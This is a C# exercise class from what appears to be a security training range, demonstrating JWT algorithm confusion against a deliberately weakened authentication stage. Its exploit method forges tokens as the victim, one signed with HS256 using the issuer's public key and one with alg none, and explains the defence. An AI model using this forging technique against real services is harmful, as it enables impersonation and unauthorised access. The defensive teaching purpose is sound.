using System.Security.Cryptography;
using System.Text;
using Gatehouse.Gateway;
using Gatehouse.Pipeline;
using Gatehouse.Range.Doubles;
using Gatehouse.Range.Running;

namespace Gatehouse.Range.Exercises;

/// <summary>The token itself says how it is to be checked.</summary>
public sealed class AlgorithmConfusion : TokenExercise
{
    /// <inheritdoc />
    public override string Id => "algorithm-confusion";

    /// <inheritdoc />
    public override string Title => "Forged token: HS256 with the public key, alg none";

    /// <inheritdoc />
    public override IReadOnlyList<string> Owasp => ["MCP07", "MCP01"];

    /// <inheritdoc />
    public override IReadOnlyList<string> Rows => ["ID-03", "A06"];

    /// <inheritdoc />
    public override string Protection => "stage authenticate, closed list of algorithms and their keys";

    /// <inheritdoc />
    public override ExerciseSteps Steps { get; } = new(
        "A server gives its token library one key, and lets the header of the token choose the algorithm.",
        "The provider's public key is public. The attacker signs a token with it as if it were a shared secret (HS256), or does not sign it (alg "
            + "none), and becomes Alice.",
        "Gatehouse supports only asymmetric algorithms. It accepts an algorithm only if the issuer's list contains it, and a key only for the "
            + "algorithm that it was published for.",
        "With a check that follows the header, both forged tokens pass again.");

    internal override string? Recognise(string? token, RangeIssuer issuer) => NaiveTokens.SubjectByAlgorithmOfHeader(token, issuer);

    internal override PartReplacements Replace(RangeFixture fixture) =>
        PartReplacements.None.Put(PartNames.Authenticate, new NaiveAuthenticate(fixture.Issuer, token => Recognise(token, fixture.Issuer)));

    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(AttackContext context)
    {
        var key = Encoding.ASCII.GetBytes(context.Issuer.PublicKeyPem);
        var claims = context.Issuer.Claims(AttackContext.Victim, context.Resource);
        var symmetric = RangeIssuer.Sign(new { alg = "HS256", typ = "at+jwt", kid = "range-1" }, claims, input => HMACSHA256.HashData(key, input));
        var unsigned = RangeIssuer.Sign(new { alg = "none", typ = "at+jwt" }, claims, _ => []);
        return
        [
            await ReadSecretAsync(context, "HS256 with the public key", symmetric).ConfigureAwait(false),
            await ReadSecretAsync(context, "alg none", unsigned).ConfigureAwait(false),
        ];
    }
}
